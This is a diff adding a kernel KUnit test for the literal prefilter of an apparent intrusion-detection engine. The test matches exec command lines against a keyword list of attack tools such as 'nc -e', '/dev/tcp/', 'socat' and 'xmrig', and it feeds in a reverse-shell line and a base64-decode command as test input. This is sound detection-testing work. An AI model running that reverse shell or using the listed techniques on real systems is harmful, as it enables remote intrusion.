@@ -1,0 +1,97 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * KUnit: the literal prefilter (suite vigil_prefilter).  A filtered step
+ * is skipped exactly when none of its literals occurs; a step whose
+ * program can be true without any literal (here: under a NOT) gets no
+ * filter and always runs.
+ */
+#include <kunit/test.h>
+#include "internal.h"
+#include "rs_builder.h"
+
+static const char *const pf_lits[] = {
+	"base64 -d",   "nc -e",	  "xmrig",  "/dev/tcp/", "chmod 4755",
+	"ld_preload=", "wget -q", "mkfifo", "socat",	 "openssl s_client",
+};
+
+/* "command_line contains one of pf_lits", negated when @neg. */
+static u32 pf_rule(struct rsb *b, const char *id, bool neg)
+{
+	u32 set = rsb_set_begin(b), step, i;
+
+	for (i = 0; i < ARRAY_SIZE(pf_lits); i++)
+		rsb_pat(b, VIGIL_PAT_CONTAINS, VIGIL_PAT_F_NOCASE, pf_lits[i]);
+	rsb_set_end(b);
+	step = rsb_step_begin(b, 1U << VIGIL_EV_EXEC);
+	rsb_insn(b, VIGIL_OP_MATCH, VIGIL_F_PROCESS_COMMAND_LINE, 0, set);
+	if (neg)
+		rsb_insn(b, VIGIL_OP_NOT, 0, 0, 0);
+	rsb_step_end(b);
+	return rsb_rule(b, id, VIGIL_RULE_EVENT, step, 1);
+}
+
+static void on_alert(void *ctx, const struct vigil_match *m)
+{
+	*(u32 *)ctx |= 1U << m->rule;
+}
+
+/* Which rules an exec with @cmdline raises, a bit each. */
+static u32 rules_hit(struct vigil_engine *e, const char *cmdline)
+{
+	struct vigil_event *ev = vg_zalloc(sizeof(*ev));
+	u32 hit = 0;
+
+	if (!ev)
+		return ~0U;
+	vigil_event_init(ev);
+	vigil_event_set_kind(ev, VIGIL_EV_EXEC);
+	vigil_event_set_str(ev, VIGIL_F_PROCESS_COMMAND_LINE, cmdline,
+			    strlen(cmdline));
+	vigil_engine_process(e, ev, on_alert, &hit);
+	vg_free(ev);
+	return hit;
+}
+
+static void vigil_prefilter_skip(struct kunit *test)
+{
+	struct rsb *b = vg_zalloc(sizeof(*b));
+	struct vigil_engine *e = NULL;
+	const char *why = NULL;
+	u8 *blob = NULL;
+
+	KUNIT_ASSERT_NOT_NULL(test, b);
+	rsb_init(b);
+	pf_rule(b, "contains", false);
+	pf_rule(b, "not-contains", true);
+	blob = vg_zalloc(rsb_size(b));
+	if (!blob)
+		goto out;
+	e = vigil_engine_new(blob, rsb_finish(b, blob, rsb_size(b)), NULL,
+			     &why);
+	KUNIT_ASSERT_NOT_NULL_MSG(test, e, "engine: %s", why);
+	KUNIT_EXPECT_NE(test, (u32)e->pf.step_slot[0], VIGIL_PF_NONE);
+	KUNIT_EXPECT_EQ(test, (u32)e->pf.step_slot[1], VIGIL_PF_NONE);
+	KUNIT_EXPECT_EQ(test, e->pf.kslots[VIGIL_EV_EXEC], 1U);
+	KUNIT_EXPECT_EQ(test, rules_hit(e, "echo aGkK | BASE64 -D"), 1U);
+	KUNIT_EXPECT_EQ(test, rules_hit(e, "bash -i >& /dev/tcp/1.2.3.4/9"),
+			1U);
+	KUNIT_EXPECT_EQ(test, rules_hit(e, "echo aGkK | base64"), 2U);
+	KUNIT_EXPECT_EQ(test, rules_hit(e, "so"), 2U);
+	KUNIT_EXPECT_EQ(test, rules_hit(e, ""), 2U);
+	vigil_engine_free(e);
+out:
+	vg_free(blob);
+	vg_free(b);
+}
+
+static struct kunit_case vigil_prefilter_cases[] = {
+	KUNIT_CASE(vigil_prefilter_skip),
+	{}
+};
+
+static struct kunit_suite vigil_prefilter_suite = {
+	.name = "vigil_prefilter",
+	.test_cases = vigil_prefilter_cases,
+};
+
+kunit_test_suite(vigil_prefilter_suite);
